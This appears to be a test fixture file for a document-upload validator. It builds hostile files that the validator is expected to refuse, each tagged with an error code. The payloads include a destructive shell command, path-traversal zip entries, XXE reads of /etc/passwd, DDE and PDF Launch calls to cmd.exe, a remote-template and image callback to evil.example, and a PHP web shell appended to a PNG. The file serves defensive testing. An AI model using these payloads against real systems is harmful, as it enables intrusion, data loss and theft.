import { deflateSync } from 'node:zlib';
import type { ErrorCode } from '@plan/shared/vocabulary/error-codes';
import {
  contentTypes,
  GOOD_FILES,
  jpeg,
  objectStream,
  PDF_PAGES,
  PNG_HEAD,
  pdf,
  pdfCatalog,
  png,
  pngChunk,
  pngHeader,
  relations,
  SHEET_MAIN,
  sheetParts,
  WORD_MAIN,
  wordDocument,
  wordParts,
  xml,
} from './good-files.js';
import { buildZip, type ZipPart } from './zip-builder.js';

export interface HostileFile {
  /** What is wrong with it. */
  title: string;
  name: string;
  bytes: () => Buffer;
  expected: ErrorCode;
}

const hostile = (title: string, name: string, expected: ErrorCode, bytes: () => Buffer): HostileFile => ({
  title,
  name,
  bytes,
  expected,
});

const good = (name: string): Buffer => GOOD_FILES[name] as Buffer;
const WORD = 'Báo cáo tháng 4.docx';
const SHEET = 'Biểu số liệu.xlsx';
const PDF = 'quyết định số 12.PDF';

const word = (...more: ZipPart[]): Buffer => buildZip([...wordParts(), ...more]);
const sheet = (...more: ZipPart[]): Buffer => buildZip([...sheetParts(), ...more]);
/** The Word file with one of its parts replaced. */
const wordWith = (part: ZipPart): Buffer =>
  buildZip(wordParts().map((each) => (each.name === part.name ? part : each)));
const active = (catalog: string, ...objects: (string | Buffer)[]): Buffer =>
  pdf([pdfCatalog(catalog), ...PDF_PAGES, ...objects]);
const compound = (text: string): Buffer =>
  Buffer.concat([
    Buffer.from('d0cf11e0a1b11ae1', 'hex'),
    Buffer.alloc(504),
    Buffer.from(text, 'utf16le'),
    Buffer.alloc(64),
  ]);
const zeros = (megabytes: number): Buffer => Buffer.alloc(megabytes * 1_024 * 1_024);
/** Files that must not be taken, each for its own reason. */
export const HOSTILE_FILES: readonly HostileFile[] = [
  // -- not of the accepted types, whatever they are called
  hostile('nothing at all', 'báo cáo.pdf', 'file.empty', () => Buffer.alloc(0)),
  hostile('a program called PDF', 'báo cáo.pdf', 'file.type_refused', () =>
    Buffer.from('MZ\x90\0\x03\0\0\0\x04\0\0\0'),
  ),
  hostile('a Linux program', 'bang.xlsx', 'file.type_refused', () =>
    Buffer.from('\x7fELF\x02\x01\x01\0\0\0\0\0', 'latin1'),
  ),
  hostile('a page with a script', 'anh.jpg', 'file.type_refused', () =>
    Buffer.from('<html><script>alert(1)</script></html>'),
  ),
  hostile('a drawing with a script', 'anh.png', 'file.type_refused', () =>
    Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'),
  ),
  hostile('a shell script', 'chay.pdf', 'file.type_refused', () => Buffer.from('#!/bin/sh\nrm -rf "$HOME"\n')),
  hostile('a GIF', 'anh.png', 'file.type_refused', () => Buffer.from('GIF89a\x01\0\x01\0\0\0\0;', 'latin1')),
  hostile('a RAR archive', 'tailieu.docx', 'file.type_refused', () =>
    Buffer.from('Rar!\x1a\x07\x01\0\0\0\0', 'latin1'),
  ),
  hostile('plain text', 'ghi chu.txt', 'file.type_refused', () =>
    Buffer.from('Báo cáo bằng chữ thường, không phải PDF.'),
  ),
  hostile('RTF', 'bao cao.docx', 'file.type_refused', () => Buffer.from('{\\rtf1\\ansi{\\object\\objupdate}}')),
  hostile('a PDF behind other bytes', 'a.pdf', 'file.type_refused', () =>
    Buffer.concat([Buffer.from('GIF89a; '), good(PDF)]),
  ),
  hostile('four bytes', 'a.png', 'file.type_refused', () => Buffer.from([0x89, 0x50, 0x4e, 0x47])),
  hostile('a Word file of before 2007', 'cu.doc', 'file.type_refused', () => compound('WordDocument')),
  hostile('a plain zip archive', 'tailieu.docx', 'file.type_refused', () =>
    buildZip([{ name: 'a.txt', content: 'a' }]),
  ),
  hostile('an OpenDocument text', 'tailieu.docx', 'file.type_refused', () =>
    buildZip([{ name: 'mimetype', content: 'application/vnd.oasis.opendocument.text', method: 0 }]),
  ),
  hostile('slides', 'trinhchieu.docx', 'file.type_refused', () =>
    buildZip([
      contentTypes(
        'ppt/presentation.xml',
        'application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml',
      ),
      { name: 'ppt/presentation.xml', content: xml('<p/>') },
    ]),
  ),
  hostile('a template', 'mau.docx', 'file.type_refused', () =>
    buildZip([contentTypes('word/document.xml', WORD_MAIN.replace('document.main', 'template.main')), wordDocument()]),
  ),

  // -- names
  hostile('a right-to-left mark that hides .exe', 'baocao\u202efdp.exe', 'file.name_invalid', () => good(PDF)),
  hostile('only an ending', '.pdf', 'file.name_invalid', () => good(PDF)),
  hostile('a letter that is not seen', 'bao\u200bcao.pdf', 'file.name_invalid', () => good(PDF)),
  hostile('a name without end', `${'a'.repeat(240)}.pdf`, 'file.name_invalid', () => good(PDF)),
  hostile('a PDF called a program', 'báo cáo.pdf.exe', 'file.name_mismatch', () => good(PDF)),
  hostile('a picture called a document', 'báo cáo.docx', 'file.name_mismatch', () => png()),
  hostile('a workbook called a document', 'báo cáo.docx', 'file.name_mismatch', () => good(SHEET)),
  hostile('no ending', 'báo cáo', 'file.name_mismatch', () => good(PDF)),

  // -- containers that two programs read differently, or that lead out of their folder
  hostile('a cut Word file', 'a.docx', 'file.damaged', () => good(WORD).subarray(0, good(WORD).length - 40)),
  hostile('bytes behind the container', 'a.docx', 'file.damaged', () =>
    buildZip(wordParts(), { suffix: Buffer.from('<script>') }),
  ),
  hostile('a comment in the container', 'a.docx', 'file.damaged', () => buildZip(wordParts(), { comment: 'MZ' })),
  hostile('a name that climbs out', 'a.docx', 'file.damaged', () => word({ name: '../../etc/cron.d/x', content: 'x' })),
  hostile('an absolute name', 'a.docx', 'file.damaged', () => word({ name: '/etc/passwd', content: 'x' })),
  hostile('a name with backslashes', 'a.docx', 'file.damaged', () =>
    word({ name: 'word\\..\\..\\x.xml', content: 'x' }),
  ),
  hostile('a name with a drive', 'a.docx', 'file.damaged', () => word({ name: 'C:x.xml', content: 'x' })),
  hostile('the same part twice', 'a.docx', 'file.damaged', () => word(wordDocument('bản khác'))),
  hostile('the same part in other letters', 'a.docx', 'file.damaged', () =>
    word({ ...wordDocument(), name: 'WORD/Document.xml' }),
  ),
  hostile('a link out of the folder', 'a.docx', 'file.damaged', () =>
    word({ name: 'word/x.xml', content: '/etc/passwd', externalAttributes: (0xa1ff << 16) >>> 0 }),
  ),
  hostile('two names of one entry', 'a.docx', 'file.damaged', () =>
    word({ name: 'word/a.xml', localName: 'word/b.xml', content: 'x' }),
  ),
  hostile('a wrong check sum', 'a.docx', 'file.damaged', () => word({ name: 'word/a.xml', content: 'x', crc: 1 })),
  hostile('more than it declares', 'a.docx', 'file.damaged', () =>
    word({ name: 'word/a.xml', content: 'x'.repeat(1_000), declaredSize: 10 }),
  ),
  hostile('an unknown way of packing', 'a.docx', 'file.damaged', () =>
    word({ name: 'word/a.xml', content: 'x', method: 14 }),
  ),
  hostile('a main part that is not there', 'a.docx', 'file.damaged', () =>
    buildZip(wordParts().filter(({ name }) => name !== 'word/document.xml')),
  ),

  // -- bombs
  hostile('entries over the same bytes', 'a.docx', 'file.damaged', () =>
    word(
      { name: 'word/0.xml', content: zeros(1) },
      ...Array.from({ length: 50 }, (_, index) => ({ name: `word/a${index}.xml`, content: '', sharesBytesWith: 4 })),
    ),
  ),
  hostile('ten megabytes of zeros', 'a.docx', 'file.unpacks_too_large', () =>
    word({ name: 'word/media/a.bin', content: zeros(10) }),
  ),
  hostile('250 MB over its parts', 'a.xlsx', 'file.unpacks_too_large', () =>
    sheet(
      ...Array.from({ length: 5 }, (_, index) => ({
        name: `xl/media/${index}.bin`,
        content: 'x',
        declaredSize: 50 * 1_024 * 1_024,
      })),
    ),
  ),
  hostile('4 GB by its own word', 'a.xlsx', 'file.unpacks_too_large', () =>
    sheet({ name: 'xl/a.xml', content: 'x', declaredSize: 0xfffffff0 }),
  ),
  hostile('five thousand entries', 'a.docx', 'file.unpacks_too_large', () =>
    word(...Array.from({ length: 5_000 }, (_, index) => ({ name: `word/${index}.xml`, content: '' }))),
  ),

  // -- what runs
  hostile('a macro', 'a.docx', 'file.active_content', () =>
    word({ name: 'word/vbaProject.bin', content: compound('VBA') }),
  ),
  hostile('a macro under another name', 'a.xlsx', 'file.active_content', () =>
    buildZip([
      contentTypes(
        'xl/workbook.xml',
        SHEET_MAIN,
        '<Override PartName="/xl/picture.bin" ContentType="application/vnd.ms-office.vbaProject"/>',
      ),
      ...sheetParts().slice(1),
    ]),
  ),
  hostile('a .docm called .docx', 'a.docx', 'file.active_content', () =>
    buildZip([
      contentTypes('word/document.xml', 'application/vnd.ms-word.document.macroEnabled.main+xml'),
      ...wordParts().slice(1),
    ]),
  ),
  hostile('an .xlsm called .xlsx', 'a.xlsx', 'file.active_content', () =>
    buildZip([
      contentTypes('xl/workbook.xml', 'application/vnd.ms-excel.sheet.macroEnabled.main+xml'),
      ...sheetParts().slice(1),
    ]),
  ),
  hostile('a sheet of Excel 4 macros', 'a.xlsx', 'file.active_content', () =>
    sheet({ name: 'xl/macrosheets/sheet1.xml', content: xml('<m/>') }),
  ),
  hostile('an ActiveX control', 'a.docx', 'file.active_content', () =>
    word({ name: 'word/activeX/activeX1.xml', content: xml('<a/>') }),
  ),
  hostile('a template from another machine', 'a.docx', 'file.active_content', () =>
    word(relations('word/_rels/settings.xml.rels', ['attachedTemplate', 'http://evil.example/a.dotm', true])),
  ),
  hostile('the same, with its mode in numbers', 'a.docx', 'file.active_content', () =>
    word({
      name: 'word/_rels/settings.xml.rels',
      content: xml(
        '<Relationships><Relationship Id="a" Type="x/attachedTemplate" Target="a>b" TargetMode="Ext&#x65;rnal"/></Relationships>',
      ),
    }),
  ),
  hostile('the same, in UTF-16', 'a.docx', 'file.active_content', () =>
    word({
      name: 'word/_rels/settings.xml.rels',
      content: Buffer.from(
        '\ufeff<Relationships><Relationship Id="a" Type="x/frame" Target="\\\\evil\\a" TargetMode="External"/></Relationships>',
        'utf16le',
      ),
    }),
  ),
  hostile('a picture that calls home', 'a.docx', 'file.active_content', () =>
    word(relations('word/_rels/footer.xml.rels', ['image', 'https://evil.example/a.png', true])),
  ),
  hostile('a link that runs', 'a.docx', 'file.active_content', () =>
    word(relations('word/_rels/footer.xml.rels', ['hyperlink', 'javascript:alert(1)', true])),
  ),
  hostile('DDE in a field', 'a.docx', 'file.active_content', () =>
    wordWith(
      wordDocument(
        '</w:t></w:r><w:r><w:instrText>DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k"</w:instrText></w:r><w:r><w:t>',
      ),
    ),
  ),
  hostile('DDE in a workbook', 'a.xlsx', 'file.active_content', () =>
    sheet({
      name: 'xl/externalLinks/externalLink1.xml',
      content: xml('<externalLink><ddeLink ddeService="cmd"/></externalLink>'),
    }),
  ),
  hostile('entities that grow', 'a.docx', 'file.active_content', () =>
    wordWith({
      name: 'word/document.xml',
      content: '<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;">]><l>&b;</l>',
    }),
  ),
  hostile('entities that read files, in UTF-16', 'a.xlsx', 'file.active_content', () =>
    sheet({
      name: 'xl/sharedStrings.xml',
      content: Buffer.from('\ufeff<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>', 'utf16le'),
    }),
  ),
  hostile('entities in a rare encoding', 'a.xlsx', 'file.active_content', () =>
    sheet({ name: 'xl/sharedStrings.xml', content: '<?xml version="1.0" encoding="UTF-7"?>+ADwAIQ-DOCTYPE a+AD4-' }),
  ),
  hostile('JavaScript in a PDF', 'a.pdf', 'file.active_content', () =>
    active('/OpenAction 4 0 R ', '<< /S /JavaScript /JS (app.alert(1)) >>'),
  ),
  hostile('JavaScript spelt with escapes', 'a.pdf', 'file.active_content', () =>
    active('/OpenAction 4 0 R ', '<< /S /J#61vaScr#69pt /JS (app.alert(1)) >>'),
  ),
  hostile('JavaScript in packed objects', 'a.pdf', 'file.active_content', () =>
    active('/OpenAction 4 0 R ', objectStream('<< /S /JavaScript /JS (app.alert(1)) >>')),
  ),
  hostile('JavaScript in packed objects whose type is escaped', 'a.pdf', 'file.active_content', () => {
    const data = deflateSync(Buffer.from('4 0 << /S /JavaScript >>'));
    return active(
      '',
      Buffer.concat([
        Buffer.from('<</Type/Obj#53tm/N 1/First 4/Filter/FlateDecode>>stream\r\n'),
        data,
        Buffer.from('\r\nendstream'),
      ]),
    );
  }),
  hostile('packed objects behind a false stream', 'a.pdf', 'file.active_content', () =>
    active('', Buffer.concat([Buffer.from('% stream\n'), objectStream('<< /S /Launch >>')])),
  ),
  hostile('objects packed twice', 'a.pdf', 'file.active_content', () =>
    active('', objectStream('', '/Filter [/ASCIIHexDecode /FlateDecode]', Buffer.from('789c>'))),
  ),
  hostile('a PDF that starts a program', 'a.pdf', 'file.active_content', () =>
    active('/OpenAction 4 0 R ', '<< /S /Launch /F (cmd.exe) >>'),
  ),
  hostile('a PDF form that runs', 'a.pdf', 'file.active_content', () => active('/AcroForm << /XFA 4 0 R >> ', '<< >>')),
  hostile('a PDF with Flash', 'a.pdf', 'file.active_content', () =>
    active('', '<< /Type /Annot /Subtype /RichMedia >>'),
  ),

  hostile('a PDF of a million streams', 'a.pdf', 'file.unpacks_too_large', () =>
    active('', Buffer.alloc(7_000_000, 'stream\n')),
  ),
  hostile('a PDF of a million escapes', 'a.pdf', 'file.active_content', () =>
    active('', Buffer.alloc(3_000_000, '/a#')),
  ),

  // -- files in files
  hostile('a zip in a Word file', 'a.docx', 'file.embedded_file', () =>
    word({ name: 'word/media/image1.png', content: buildZip([{ name: 'a', content: 'a' }]) }),
  ),
  hostile('a program in a Word file', 'a.docx', 'file.embedded_file', () =>
    word({ name: 'word/media/image1.png', content: 'MZ\x90\0' }),
  ),
  hostile('an OLE object', 'a.docx', 'file.embedded_file', () =>
    word({ name: 'word/embeddings/oleObject1.bin', content: compound('Package') }),
  ),
  hostile('an OLE object by its relation', 'a.docx', 'file.embedded_file', () =>
    word(relations('word/_rels/footer.xml.rels', ['oleObject', 'media/a.bin']), {
      name: 'word/media/a.bin',
      content: 'x',
    }),
  ),
  hostile('a file in a PDF', 'a.pdf', 'file.embedded_file', () =>
    active('/Names << /EmbeddedFiles 4 0 R >> ', '<< >>'),
  ),
  hostile('a PDF that is a zip too', 'a.pdf', 'file.embedded_file', () =>
    Buffer.concat([good(PDF), good(WORD), Buffer.from('\n%%EOF\n')]),
  ),

  // -- locked
  hostile('a Word file with a password', 'a.docx', 'file.encrypted', () => compound('EncryptedPackage')),
  hostile('an encrypted entry', 'a.docx', 'file.encrypted', () => word({ name: 'word/a.xml', content: 'x', flags: 1 })),
  hostile('a PDF with a password', 'a.pdf', 'file.encrypted', () =>
    pdf([pdfCatalog(), ...PDF_PAGES, '<< /Filter /Standard >>'], '/Encrypt 4 0 R '),
  ),

  // -- half files
  hostile('a PDF without an end', 'a.pdf', 'file.damaged', () => good(PDF).subarray(0, 200)),
  hostile('a PDF with broken packed objects', 'a.pdf', 'file.damaged', () =>
    active('', objectStream('', '/Filter /FlateDecode', Buffer.from('garbage'))),
  ),
  hostile('a PDF with an end long before its last bytes', 'a.pdf', 'file.damaged', () =>
    Buffer.concat([good(PDF), zeros(1)]),
  ),
  hostile('half a PNG', 'a.png', 'file.damaged', () => png().subarray(0, 50)),
  hostile('bytes behind a PNG', 'a.png', 'file.damaged', () =>
    Buffer.concat([png(), Buffer.from('<?php system($_GET[0]); ?>')]),
  ),
  hostile('a PNG with a wrong check sum', 'a.png', 'file.damaged', () =>
    Buffer.concat([
      PNG_HEAD,
      pngHeader(1, 1),
      pngChunk('IDAT', Buffer.from('x'), 1),
      pngChunk('IEND', Buffer.alloc(0)),
    ]),
  ),
  hostile('a picture of 10 billion points', 'a.png', 'file.unpacks_too_large', () => png(100_000, 100_000)),
  hostile('a JPEG of 4 billion points', 'a.jpg', 'file.unpacks_too_large', () => jpeg(65_535, 65_535)),
  hostile('half a JPEG', 'a.jpg', 'file.damaged', () => jpeg(1, 1, Buffer.from([0x12]))),
  hostile('a zip behind a JPEG', 'a.jpg', 'file.damaged', () => Buffer.concat([jpeg(), good(WORD)])),
  hostile('a JPEG without a picture', 'a.jpg', 'file.damaged', () =>
    Buffer.from([0xff, 0xd8, 0xff, 0xe0, 0, 4, 1, 2, 0xff, 0xd9]),
  ),
];
